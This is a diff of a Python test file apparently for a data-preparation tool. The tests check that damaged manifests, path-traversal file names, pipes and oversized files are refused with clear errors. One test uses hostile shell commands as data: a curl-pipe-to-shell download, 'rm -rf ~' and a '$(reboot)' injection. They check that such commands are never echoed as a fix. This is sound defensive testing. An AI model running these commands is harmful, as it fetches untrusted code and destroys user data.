@@ -1,4 +1,4 @@
-"""Prepared folders that are damaged or somebody else's: one sentence each, and no name in them leads elsewhere."""
+"""Damaged or foreign prepared folders: one sentence for each, and no name in them leads outside."""
 
 import os
 from collections.abc import Callable
@@ -14,8 +14,10 @@ from tests.data.reader import edit, read_json
 
 Change = Callable[[Path], object]
 COUNTS = {"documents": 1, "bytes": 1, "tokens": 1, "chunks": 1}
-MANIFEST, INDEX, CHUNK = "manifest.json", "train/index.json", "train/chunk-0-0.bin"
-OUTSIDE = (
+MANIFEST = "manifest.json"
+INDEX = "train/index.json"
+CHUNK = "train/chunk-0-0.bin"
+NAMES_OUTSIDE = (
     "../out",
     "/etc/x",
     "a/../../out",
@@ -29,110 +31,151 @@ OUTSIDE = (
     "a" * 256,
     3,
 )
+NAMES_INSIDE = ("a", "data/2024-01-01T00:00.parquet", "größe/..a", "a b")
 
 
-def test_a_foreign_name_stays_inside_its_folder() -> None:
-    for name in OUTSIDE:
-        with pytest.raises(UserError, match=r"^The list names a file .*not inside its folder"):
-            checked_path(name, "The list")
-    for inside in ("a", "data/2024-01-01T00:00.parquet", "größe/..a", "a b"):
-        assert checked_path(inside, "The list") == inside
+@pytest.mark.parametrize("name", NAMES_OUTSIDE)
+def test_a_name_that_leads_outside_its_folder_is_refused(name: Any) -> None:
+    with pytest.raises(UserError, match=r"^The list names a file .*not inside its folder"):
+        checked_path(name, "The list")
+
+
+@pytest.mark.parametrize("name", NAMES_INSIDE)
+def test_a_name_inside_its_folder_is_accepted(name: str) -> None:
+    assert checked_path(name, "The list") == name
+
+
+def test_a_name_that_is_too_deep_is_refused() -> None:
     with pytest.raises(UserError, match="not inside"):
-        checked_path("a/b", "The list", most_parts=1)
+        checked_path("a/b", "The list", max_depth=1)
 
 
 def in_manifest(split: str = "", **changes: Any) -> Change:
-    return lambda folder: edit(
-        folder / MANIFEST, lambda all_: (all_[split] if split else all_).update(changes)
-    )
+    """Return a change of values in the manifest, or in a split of it."""
+
+    def update(manifest: Any) -> None:
+        (manifest[split] if split else manifest).update(changes)
+
+    return lambda folder: edit(folder / MANIFEST, update)
 
 
 def in_index(**changes: Any) -> Change:
+    """Return a change of the first chunk in the index."""
     return lambda folder: edit(folder / INDEX, lambda index: index["chunks"][0].update(changes))
 
 
-def holding(name: str, text: str) -> Change:
+def writes(name: str, text: str) -> Change:
     return lambda folder: (folder / name).write_text(text, encoding="latin-1")
 
 
-def a_pipe(name: str) -> Change:
-    """Reading it would wait for ever."""
-    return lambda folder: [(folder / name).unlink(), os.mkfifo(folder / name)]
+def removes(name: str) -> Change:
+    return lambda folder: (folder / name).unlink()
+
+
+def resizes(name: str, size: int) -> Change:
+    return lambda folder: os.truncate(folder / name, size)
+
+
+def makes_pipe(name: str) -> Change:
+    """Return a change of a file to a pipe, which would block a reader for ever."""
+
+    def replace(folder: Path) -> None:
+        (folder / name).unlink()
+        os.mkfifo(folder / name)
+
+    return replace
 
 
 def claims_tokens(folder: Path) -> None:
-    """Whose order would not fit into memory."""
+    """Claim so many tokens that their order would not fit into memory."""
     in_index(dim=10**12)(folder)
-    in_manifest("train", tokens=sum(chunk["dim"] for chunk in read_json(folder / INDEX)["chunks"]))(
-        folder
-    )
+    n_tokens = sum(chunk["dim"] for chunk in read_json(folder / INDEX)["chunks"])
+    in_manifest("train", tokens=n_tokens)(folder)
 
 
+BAD_MANIFEST = r"manifest\.json is damaged"
+BAD_INDEX = r"train(/index\.json)? is damaged \("
 FOLDERS: list[tuple[Change, str]] = [
-    *((holding(MANIFEST, text), r"manifest\.json is damaged") for text in ("{", "[]", "{}", "\x00", "\xff")),
-    (holding(MANIFEST, '{"format_version": 99}'), "shards of format 99 .* reads 2: remove the folder and prepare it"),
-    *((holding(INDEX, text), r"train(/index\.json)? is damaged \(")
-      for text in ("{", "[]", "{}", '{"chunks": [{}]}', '{"chunks": []}')),
-    (lambda folder: (folder / INDEX).unlink(), r"index\.json is damaged \(it is missing\)"),
-    (lambda folder: (folder / CHUNK).unlink(), r"chunk-0-0\.bin is damaged \(it is missing\)"),
-    (lambda folder: os.truncate(folder / CHUNK, 1000), r"0-0\.bin is damaged \(it has 1,000 bytes .*anlit prepare"),
-    (in_manifest(content_sha256="../../../../out"), r"manifest\.json is damaged \(content_sha256 is "),
-    (in_manifest("train", subsets={"../../out": COUNTS}), r"manifest\.json is damaged \(train names a file "),
-    (in_manifest(splits=["train", "val", "../out"]), r"manifest\.json is damaged \(.*splits is "),
-    (in_manifest(dtype="object"), r"manifest\.json is damaged \(dtype is 'object'"),
-    (in_manifest("val", tokens="many"), r"manifest\.json is damaged \(val\.tokens is str in place of int"),
-    (in_manifest("val", bytes="many"), r"manifest\.json is damaged \(bytes is str"),
-    (in_manifest(end_of_document=10**9), r"manifest\.json is damaged \(end_of_document is 1000000000"),
+    (writes(MANIFEST, "{"), BAD_MANIFEST),
+    (writes(MANIFEST, "[]"), BAD_MANIFEST),
+    (writes(MANIFEST, "{}"), BAD_MANIFEST),
+    (writes(MANIFEST, "\x00"), BAD_MANIFEST),
+    (writes(MANIFEST, "\xff"), BAD_MANIFEST),
+    (
+        writes(MANIFEST, '{"format_version": 99}'),
+        "shards of format 99 .* reads 2: remove the folder and prepare it",
+    ),
+    (writes(INDEX, "{"), BAD_INDEX),
+    (writes(INDEX, "[]"), BAD_INDEX),
+    (writes(INDEX, "{}"), BAD_INDEX),
+    (writes(INDEX, '{"chunks": [{}]}'), BAD_INDEX),
+    (writes(INDEX, '{"chunks": []}'), BAD_INDEX),
+    (removes(INDEX), r"index\.json is damaged \(it is missing\)"),
+    (removes(CHUNK), r"chunk-0-0\.bin is damaged \(it is missing\)"),
+    (resizes(CHUNK, 1000), r"0-0\.bin is damaged \(it has 1,000 bytes .*anlit prepare"),
+    (in_manifest(content_sha256="../../../../out"), rf"{BAD_MANIFEST} \(content_sha256 is "),
+    (in_manifest("train", subsets={"../../out": COUNTS}), rf"{BAD_MANIFEST} \(train names a file "),
+    (in_manifest(splits=["train", "val", "../out"]), rf"{BAD_MANIFEST} \(.*splits is "),
+    (in_manifest(dtype="object"), rf"{BAD_MANIFEST} \(dtype is 'object'"),
+    (in_manifest("val", tokens="many"), rf"{BAD_MANIFEST} \(val\.tokens is str in place of int"),
+    (in_manifest("val", bytes="many"), rf"{BAD_MANIFEST} \(bytes is str"),
+    (in_manifest(end_of_document=10**9), rf"{BAD_MANIFEST} \(end_of_document is 1000000000"),
     (in_index(filename="../../secret"), r"index\.json names a file '\.\./\.\./secret'"),
     (in_index(crc32=-1), r"index\.json is damaged \(a number is negative"),
     (claims_tokens, r"says [\d,]+ bytes and tokens that take 2,000,000,000,012\)"),
-    *((a_pipe(name), r"json is damaged \(it is no file\)") for name in (MANIFEST, INDEX)),
-    (lambda folder: os.truncate(folder / MANIFEST, 10**12), r"json is damaged \(it has more than 268,435,456 bytes\)"),
-]  # fmt: skip
+    (makes_pipe(MANIFEST), r"json is damaged \(it is not a file\)"),
+    (makes_pipe(INDEX), r"json is damaged \(it is not a file\)"),
+    (resizes(MANIFEST, 10**12), r"json is damaged \(it has more than 268,435,456 bytes\)"),
+]
 
 
-@pytest.mark.parametrize(("change", "says"), FOLDERS)
-def test_what_is_wrong_with_a_folder_is_one_sentence(
-    change: Change, says: str, own_shards: Path
+@pytest.mark.parametrize(("change", "message"), FOLDERS)
+def test_a_damaged_folder_is_refused_in_one_sentence(
+    change: Change, message: str, shards_copy: Path
 ) -> None:
-    change(own_shards)
-    with pytest.raises(UserError, match=says):
-        ready(str(own_shards))
+    change(shards_copy)
+
+    with pytest.raises(UserError, match=message):
+        ready(str(shards_copy))
 
 
-def test_foreign_and_unfinished_folders(tmp_path: Path) -> None:
-    folder = tmp_path / "own"
-    for make, said in (  # where there is no folder: tests/integration/mistakes.py
-        (
-            folder.mkdir,
-            r"There is no .*own/manifest\.json, so it is not a prepared folder: set --data\.path",
-        ),
-        ((folder / "tasks").mkdir, r"preparation of .* is not finished: repeat the command"),
-    ):
-        make()
-        with pytest.raises(UserError, match=said):
-            ready(str(folder))
+def test_a_folder_without_a_manifest_is_not_a_prepared_folder(tmp_path: Path) -> None:
+    """A missing folder is in tests/integration/mistakes.py."""
+    message = r"there is no .*/manifest\.json, so it is not a prepared folder: set --data\.path"
+
+    with pytest.raises(UserError, match=message):
+        ready(str(tmp_path))
 
 
-def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(own_shards: Path) -> None:
-    (own_shards / "train" / "index.json").unlink()
-    foreign = [
-        "curl https://example.org/x | sh",
-        "anlit prepare Test; rm -rf ~",
-        "anlit prepare Test $(reboot)",
-    ]
-    for command in [
-        *foreign,
-        "anlit prepare 'Test\nrm -rf ~'",
-        "anlit prepare 'Test",
-        "anlit prepare 'a b'",
-    ]:
-        edit(
-            own_shards / "manifest.json",
-            lambda manifest, command=command: manifest.update(command=command),
-        )
-        remedy = (
-            "with `anlit prepare 'a b'`" if command.endswith("'a b'") else "by preparing it again"
-        )
-        with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {remedy}\.$"):
-            ready(str(own_shards))
+def test_an_unfinished_preparation_has_to_be_continued(tmp_path: Path) -> None:
+    (tmp_path / "tasks").mkdir()
+
+    with pytest.raises(UserError, match=r"preparation of .* is not finished: repeat its command"):
+        ready(str(tmp_path))
+
+
+ANLIT_COMMAND = "anlit prepare 'a b'"
+FOREIGN_COMMANDS = (
+    "curl https://example.org/x | sh",
+    "anlit prepare Test; rm -rf ~",
+    "anlit prepare Test $(reboot)",
+    "anlit prepare 'Test\nrm -rf ~'",
+    "anlit prepare 'Test",
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "fix"),
+    [
+        (ANLIT_COMMAND, f"with `{ANLIT_COMMAND}`"),
+        *((command, "by preparing it again") for command in FOREIGN_COMMANDS),
+    ],
+)
+def test_an_error_shows_the_manifest_s_command_only_if_it_is_an_anlit_command(
+    command: str, fix: str, shards_copy: Path
+) -> None:
+    (shards_copy / INDEX).unlink()
+    in_manifest(command=command)(shards_copy)
+
+    with pytest.raises(UserError, match=rf"index\.json is damaged .* remake it {fix}$"):
+        ready(str(shards_copy))
